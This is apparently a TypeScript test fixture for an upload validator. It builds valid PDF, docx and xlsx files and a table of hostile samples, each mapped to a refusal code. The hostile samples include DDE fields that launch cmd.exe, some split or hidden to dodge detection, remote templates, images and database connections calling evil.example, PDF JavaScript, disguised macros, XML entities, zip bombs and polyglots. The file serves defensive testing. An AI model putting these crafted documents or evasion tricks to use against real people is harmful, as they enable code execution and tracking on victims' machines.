/** For tests: valid and malicious files. */
import { twiceDeflated } from './testing-bombs.ts'
import { docxParts, makePdf, makeZip, withTable, xlsxParts } from '@kelisim/demo/sample-files.ts'

export const goodPdf = makePdf(['A contract'], ['Its second page'])
export const goodDocx = makeZip(docxParts(['Приказ', 'Текст', 'a | b']))
export const goodXlsx = makeZip(
  xlsxParts('Лист', [
    ['Товар', 1],
    ['Арпа', 2],
  ]),
)

/** A PDF of exactly this size: the rest is a comment before the end. */
export function pdfOfSize(size: number): Buffer {
  const head = goodPdf.subarray(0, 9)
  const objects = goodPdf.subarray(9)
  const padding = Buffer.alloc(size - goodPdf.length, 'a')
  padding.write('%', 0)
  padding.write('\n', padding.length - 1)
  // The offsets in the table are wrong now, as some editors leave them; readers accept that.
  return Buffer.concat([head, padding, objects])
}

/** A docx of exactly this size: an entry that does not compress fills it. */
export function docxOfSize(size: number): Buffer {
  const parts = docxParts(['Приказ'])
  const noise = (length: number) => {
    const bytes = Buffer.alloc(length)
    let state = 1
    for (let i = 0; i < length; i++) {
      state = (Math.imul(state, 1664525) + 1013904223) >>> 0
      bytes[i] = state >>> 24
    }
    return bytes
  }
  let length = size - makeZip({ ...parts, 'word/media/image1.png': '' }).length
  for (;;) {
    const made = makeZip({ ...parts, 'word/media/image1.png': noise(length) })
    if (made.length === size) return made
    length -= made.length - size
  }
}

const encrypted = withTable(
  '%PDF-1.4\n',
  [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 0 /Kids [] >>',
    `<< /Filter /Standard /V 1 /R 2 /P -4 /O <${'00'.repeat(32)}> /U <${'11'.repeat(32)}> >>`,
  ],
  `/Encrypt 3 0 R /ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>] `,
)

const withCatalog = (entries: string) =>
  withTable('%PDF-1.4\n', [
    `<< /Type /Catalog /Pages 2 0 R ${entries} >>`,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
  ])

const docx = docxParts(['Приказ'])
const withTypes = (replace: (types: string) => string) => ({
  ...docx,
  '[Content_Types].xml': replace(String(docx['[Content_Types].xml'])),
})
const withFormula = (formula: string) =>
  makeZip({
    ...xlsxParts('a', []),
    'xl/worksheets/sheet9.xml': `<x:worksheet xmlns:x="a"><x:c><x:f>${formula}</x:f></x:c></x:worksheet>`,
  })
const flags = (zip: Buffer, at: Buffer) => zip.indexOf(at)

/** Sets the encryption bit of the first entry, in its header and in the list. */
function encryptedZip(): Buffer {
  const zip = Buffer.from(goodDocx)
  zip[6]! |= 1
  zip[flags(zip, Buffer.from('PK\x01\x02', 'latin1')) + 8]! |= 1
  return zip
}

/** Declares another size than the content has. */
function lyingZip(): Buffer {
  const zip = Buffer.from(makeZip({ ...docx, 'word/media/a.bin': Buffer.alloc(3_000_000) }))
  const list = zip.lastIndexOf(Buffer.from('PK\x01\x02', 'latin1'))
  zip.writeUInt32LE(1000, list + 24)
  return zip
}

const twiceNamed = () => {
  const zip = Buffer.from(makeZip({ ...docx, 'word/documenT.xml': '<a/>' }))
  for (let at = zip.indexOf('word/documenT.xml'); at >= 0; at = zip.indexOf('word/documenT.xml', at + 1)) {
    zip.write('word/document.xml', at)
  }
  return zip
}

const ole = (content: string) =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), Buffer.from(content, 'utf16le')])

/** case, name of the file, its bytes, alias of the refusal */
export const hostileFiles: [string, string, Buffer, string][] = [
  ['an empty file', 'a.pdf', Buffer.alloc(0), 'file-empty'],
  ['one byte', 'a.pdf', Buffer.from('%'), 'file-content-mismatch'],
  ['one byte', 'a.docx', Buffer.from('P'), 'file-content-mismatch'],
  ['a picture', 'a.png', Buffer.from('\x89PNG'), 'file-format-not-supported'],
  ['a program', 'договор.pdf.exe', Buffer.from('MZ'), 'file-format-not-supported'],
  ['an old word document', 'a.doc', ole('WordDocument'), 'file-format-not-supported'],
  ['no extension', 'договор', goodPdf, 'file-format-not-supported'],
  ['a page of HTML called PDF', 'a.pdf', Buffer.from('<html><script>1</script>'), 'file-content-mismatch'],
  ['a docx called PDF', 'a.pdf', goodDocx, 'file-content-mismatch'],
  ['a PDF called docx', 'a.docx', goodPdf, 'file-content-mismatch'],
  ['an xlsx called docx', 'a.docx', goodXlsx, 'file-content-mismatch'],
  ['a docx called xlsx', 'a.xlsx', goodDocx, 'file-content-mismatch'],
  ['any zip called docx', 'a.docx', makeZip({ 'a.txt': 'a' }), 'file-content-mismatch'],
  ['an old word document called docx', 'a.docx', ole('WordDocument'), 'file-content-mismatch'],
  [
    'a template called docx',
    'a.docx',
    makeZip(withTypes((types) => types.replace('document.main', 'template.main'))),
    'file-content-mismatch',
  ],
  ['a docx with a password', 'a.docx', ole('EncryptedPackage'), 'file-encrypted'],
  ['a zip with a password', 'a.docx', encryptedZip(), 'file-encrypted'],
  ['a PDF with a password', 'a.pdf', encrypted, 'file-encrypted'],
  ['the first line of a PDF', 'a.pdf', Buffer.from('%PDF-1.7\n'), 'file-broken'],
  ['a truncated PDF', 'a.pdf', goodPdf.subarray(0, 60), 'file-broken'],
  ['a PDF without pages', 'a.pdf', withTable('%PDF-1.4\n', ['<< /Type /Catalog >>']), 'file-broken'],
  [
    'random bytes after the header of a PDF',
    'a.pdf',
    Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(5000, 7)]),
    'file-broken',
  ],
  [
    'a PDF with a script',
    'a.pdf',
    withCatalog('/OpenAction << /S /JavaScript /JS (1) >>'),
    'file-has-scripts',
  ],
  [
    'a PDF that hides a layer when it is opened',
    'a.pdf',
    withCatalog('/OpenAction << /S /SetOCGState /State [/OFF 3 0 R] >>'),
    'file-has-scripts',
  ],
  [
    'a PDF that opens another one in its place',
    'a.pdf',
    withCatalog('/OpenAction << /S /GoToR /F (b.pdf) /D [0 /Fit] >>'),
    'file-has-scripts',
  ],
  ['a portfolio of files', 'a.pdf', withCatalog('/Collection << /View /T >>'), 'file-has-scripts'],
  [
    'a PDF whose packed objects cannot be read',
    'a.pdf',
    withCatalog(
      '>> endobj 9 0 obj << /Type /ObjStm /N 1 /First 4 >>\nstream\nnone\nendstream endobj 8 0 obj <<',
    ),
    'file-broken',
  ],
  ['a form of XFA', 'a.pdf', withCatalog('/AcroForm << /Fields [] /XFA [(a) 2 0 R] >>'), 'file-has-xfa'],
  ['a truncated docx', 'a.docx', goodDocx.subarray(0, goodDocx.length - 30), 'file-broken'],
  ['a zip with wrong sizes', 'a.docx', lyingZip(), 'file-broken'],
  ['two parts with the same name', 'a.docx', twiceNamed(), 'file-broken'],
  [
    'a list of parts with a DTD',
    'a.docx',
    makeZip(withTypes((types) => types.replace('<Types', '<!DOCTYPE a [<!ENTITY b "c">]><Types'))),
    'file-has-entities',
  ],
  ['a docx with macros', 'a.docx', makeZip({ ...docx, 'word/vbaProject.bin': 'x' }), 'file-has-macros'],
  [
    'macros under another name',
    'a.docx',
    makeZip(
      withTypes((types) =>
        types.replace(
          '</Types>',
          '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vba&#x50;roject"/></Types>',
        ),
      ),
    ),
    'file-has-macros',
  ],
  [
    'a docm called docx',
    'a.docx',
    makeZip(
      withTypes((types) =>
        types.replace(
          /application\/vnd\.openxmlformats[^"]*main\+xml/,
          'application/vnd.ms-word.document.macroEnabled.main+xml',
        ),
      ),
    ),
    'file-has-macros',
  ],
  [
    'an xlsx with an old macro sheet',
    'a.xlsx',
    makeZip({ ...xlsxParts('a', []), 'xl/macrosheets/sheet1.xml': '<a/>' }),
    'file-has-macros',
  ],
  [
    'a docx with a DDE field',
    'a.docx',
    withField('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
    'file-has-dde',
  ],
  ['a docx with a DDE field in pieces', 'a.docx', withField('D', 'D&#69;', ' c:\\\\cmd.exe'), 'file-has-dde'],
  ['a docx with a DDE field in CDATA', 'a.docx', withField('<![CDATA[DDEAUTO cmd]]>'), 'file-has-dde'],
  [
    'a docx with a DDE field around a comment',
    'a.docx',
    withField('D<!-- nothing -->DEAUTO cmd'),
    'file-has-dde',
  ],
  [
    'a docx with a simple DDE field after a value that holds a bracket',
    'a.docx',
    withBody('<x:fldSimple xmlns:z="urn:>" x:instr="DDEAUTO cmd"><x:r/></x:fldSimple>'),
    'file-has-dde',
  ],
  [
    'a docx with a simple DDE field beside an attribute of the same name',
    'a.docx',
    withBody('<x:fldSimple xmlns:instr="PAGE" x:instr="DDEAUTO cmd"><x:r/></x:fldSimple>'),
    'file-has-dde',
  ],
  [
    'a docx with a template from elsewhere beside attributes of the same names',
    'a.docx',
    makeZip({
      ...docx,
      'word/_rels/document.xml.rels':
        '<Relationships><Relationship Id="rId9" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External" xmlns:TargetMode="Internal" xmlns:Type="http://x/relationships/image"/></Relationships>',
    }),
    'file-loads-from-elsewhere',
  ],
  [
    'a docx with a DDE field in a part of another name',
    'a.docx',
    makeZip({ ...docx, 'word/more.dat': '<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>' }),
    'file-has-dde',
  ],
  [
    'a docx that hides a field behind an instruction',
    'a.docx',
    withBody('<?a > <!-- ?><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r><?a --> ?>'),
    'file-has-dde',
  ],
  [
    'a docx with a template from elsewhere after a value that holds a bracket',
    'a.docx',
    makeZip({
      ...docx,
      'word/_rels/document.xml.rels':
        '<Relationships><Relationship xmlns:z="urn:>" Id="rId9" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
    }),
    'file-loads-from-elsewhere',
  ],
  [
    'a docx with a simple DDE field',
    'a.docx',
    withBody('<x:fldSimple x:instr=" dde excel file a1"><x:r/></x:fldSimple>'),
    'file-has-dde',
  ],
  [
    'an xlsx with a DDE link',
    'a.xlsx',
    makeZip({
      ...xlsxParts('a', []),
      'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
    }),
    'file-has-dde',
  ],
  [
    'an xlsx with a picture that a server gives',
    'a.xlsx',
    withFormula('_xlfn.IMAGE(&quot;https://evil.example/price.png&quot;)'),
    'file-loads-from-elsewhere',
  ],
  [
    'an xlsx with a value that a server gives',
    'a.xlsx',
    withFormula('1+_xlfn.WEB<!-- -->SERVICE (A1)'),
    'file-loads-from-elsewhere',
  ],
  [
    'an xlsx with such a value after a sheet whose name has a quotation mark',
    'a.xlsx',
    withFormula(`'x"y'!A1&amp;_xlfn.IMAGE("https://evil.example/price.png")`),
    'file-loads-from-elsewhere',
  ],
  [
    'an xlsx with such a value between columns whose names escape a character',
    'a.xlsx',
    withFormula(`T[a'#]&amp;_xlfn.IMAGE("https://evil.example/price.png")&amp;T[a'#]`),
    'file-loads-from-elsewhere',
  ],
  [
    'an xlsx that asks a database when it is opened',
    'a.xlsx',
    makeZip({
      ...xlsxParts('a', []),
      'xl/connections.xml':
        '<connections><connection id="1" type="5" refreshOnLoad="1"><dbPr connection="Provider=SQLOLEDB.1;Data Source=evil.example" command="prices"/></connection></connections>',
    }),
    'file-loads-from-elsewhere',
  ],
  [
    'an xlsx with such a value behind a name',
    'a.xlsx',
    makeZip({
      ...xlsxParts('a', []),
      'xl/more.xml': '<definedNames><x:definedName name="a">RTD("a",,"b")</x:definedName></definedNames>',
    }),
    'file-loads-from-elsewhere',
  ],
  [
    'a docx with a template from elsewhere',
    'a.docx',
    related('attachedTemplate', 'http://evil.example/a.dotm'),
    'file-loads-from-elsewhere',
  ],
  [
    'a docx with a frame from elsewhere',
    'a.docx',
    related('frame', 'http://evil.example/'),
    'file-loads-from-elsewhere',
  ],
  [
    'a docx with an object from elsewhere',
    'a.docx',
    related('oleObject', 'http://evil.example/a.rtf'),
    'file-loads-from-elsewhere',
  ],
  [
    'a docx with a picture on a foreign share',
    'a.docx',
    related('image', '\\\\evil.example\\share\\a.png'),
    'file-loads-from-elsewhere',
  ],
  [
    'a docx with a picture that a server gives',
    'a.docx',
    related('image', 'https://evil.example/price.png'),
    'file-loads-from-elsewhere',
  ],
  [
    'a docx with a text from elsewhere',
    'a.docx',
    withField(' INCLUDE', 'TEXT "https://evil.example/price.docx"'),
    'file-loads-from-elsewhere',
  ],
  [
    'a docx with a picture from elsewhere by a field',
    'a.docx',
    withField(' INCLUDEPICTURE "http', '://evil.example/price.png" \\* MERGEFORMATINET '),
    'file-loads-from-elsewhere',
  ],
  [
    'a docx with a picture on a foreign share by a field',
    'a.docx',
    withField(' IMPORT \\\\evil.example\\price.png'),
    'file-loads-from-elsewhere',
  ],
  [
    'a docx with a picture whose address is another field',
    'a.docx',
    withBody(
      `<w:r><w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDEPICTURE "</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE</w:instrText></w:r>`,
    ),
    'file-loads-from-elsewhere',
  ],
  [
    'a docx with a linked range of a workbook',
    'a.docx',
    withBody('<w:fldSimple w:instr="LINK Excel.Sheet.12 &quot;price.xlsx&quot; &quot;A1&quot; \\t"/>'),
    'file-loads-from-elsewhere',
  ],
  [
    'a docx with an embedded object',
    'a.docx',
    related('oleObject', 'embeddings/a.bin', 'Internal'),
    'file-has-objects',
  ],
  [
    'a docx with an embedded program',
    'a.docx',
    makeZip({ ...docx, 'word/embeddings/oleObject1.bin': 'x' }),
    'file-has-objects',
  ],
  [
    'a docx with entities',
    'a.docx',
    makeZip({
      ...docx,
      'word/document.xml': `<!DOCTYPE a [<!ENTITY b "c">]>${String(docx['word/document.xml'])}`,
    }),
    'file-has-entities',
  ],
  [
    'a docx with words in two bytes each',
    'a.docx',
    makeZip({
      ...docx,
      'word/document.xml': Buffer.from(`\ufeff${String(docx['word/document.xml'])}`, 'utf16le'),
    }),
    'file-broken',
  ],
  [
    'a zip bomb',
    'a.docx',
    makeZip({ ...docx, 'word/media/a.bin': Buffer.alloc(30_000_000) }),
    'file-unpacks-too-large',
  ],
  ['a PDF that is a gigabyte when unpacked twice', 'a.pdf', twiceDeflated(), 'file-unpacks-too-large'],
  [
    'a zip of a thousand and one parts',
    'a.docx',
    makeZip({
      ...docx,
      ...Object.fromEntries(Array.from({ length: 1001 }, (_, i) => [`word/${i}.xml`, 'x'])),
    }),
    'file-unpacks-too-large',
  ],
  ['a PDF that is a docx too', 'a.pdf', pdfAndZip(), 'file-of-two-formats'],
  ['a docx that is a PDF too', 'a.docx', pdfAndZip(), 'file-content-mismatch'],
  [
    'a docx with a PDF before it',
    'a.docx',
    Buffer.concat([Buffer.from('PK\x03\x04 %PDF-1.4'), goodDocx]),
    'file-of-two-formats',
  ],
  [
    'a page of HTML before a PDF',
    'a.pdf',
    Buffer.concat([Buffer.from('<html>'), goodPdf]),
    'file-of-two-formats',
  ],
  [
    'a program before a docx',
    'a.docx',
    Buffer.concat([Buffer.from('MZ program'), goodDocx]),
    'file-of-two-formats',
  ],
]

/** The body of a document with this markup before its end. */
function withBody(markup: string): Buffer {
  const body = String(docx['word/document.xml'])
  return makeZip({ ...docx, 'word/document.xml': body.replace(/<\/(w:)?body>/, `${markup}$&`) })
}

/** A field whose instruction is spread over several runs. */
function withField(...instruction: string[]): Buffer {
  const runs = instruction.map(
    (piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`,
  )
  return withBody(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.join('')}</w:p>`)
}

/** A document that refers to something by a relationship of this type. */
function related(type: string, target: string, mode = 'External'): Buffer {
  return makeZip({ ...docx, ...relationship(type, target, mode) })
}

function relationship(type: string, target: string, mode: string): Record<string, string> {
  const kind = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`
  return {
    'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="${kind}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
  }
}

/** Ordinary documents with harmless contents: links to click, pictures and fields of their own. */
export const lawfulFiles: [string, string, Buffer][] = [
  ['a page to begin with', 'a.pdf', withCatalog('/OpenAction [3 0 R /Fit]')],
  [
    'a link to another file',
    'a.pdf',
    withCatalog('/Outlines << /First << /Title (a) /A << /S /Launch /F (a.docx) >> >> >>'),
  ],
  ['a hyperlink', 'a.docx', related('hyperlink', 'https://adilet.zan.kz/')],
  ['a picture that is kept elsewhere', 'a.docx', related('image', 'file:///C:/Users/a/Pictures/logo.png')],
  [
    'pictures pasted from the own disk, and a link as a field',
    'a.docx',
    withBody(
      [
        ' INCLUDEPICTURE &quot;/var/folders/x1/page1image1&quot; \\* MERGEFORMATINET ',
        ' INCLUDEPICTURE  &quot;C:\\\\Users\\\\a\\\\logo.png&quot; \\d ',
        ' HYPERLINK &quot;https://adilet.zan.kz/&quot; ',
      ]
        .map(
          (code) =>
            `<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>${code}</w:instrText><w:fldChar w:fldCharType="end"/></w:r>`,
        )
        .join(''),
    ),
  ],
  ['a formula', 'a.xlsx', withFormula('SUM(A1:A9)*IF(B1=&quot;IMAGE(1)&quot;,MYIMAGE(1),2)')],
  ['a function of its own with a Cyrillic name', 'a.xlsx', withFormula('МОЙIMAGE(1)')],
  [
    'a fraction that looks like a formula',
    'a.docx',
    withBody(
      '<w:p><m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:f><m:num><m:r><m:t>RTD (20)</m:t></m:r></m:num></m:f></m:oMath></w:p>',
    ),
  ],
  ['a field with the number of the page', 'a.docx', withField(' PAGE ', ' \\* MERGEFORMAT ')],
  ['the word DDE in its text', 'a.docx', withBody('<w:p><w:r><w:t>DDEAUTO</w:t></w:r></w:p>')],
  [
    'a chart with its numbers',
    'a.docx',
    makeZip({ ...docx, 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': goodXlsx }),
  ],
]

function pdfAndZip(): Buffer {
  return Buffer.concat([goodPdf, goodDocx])
}
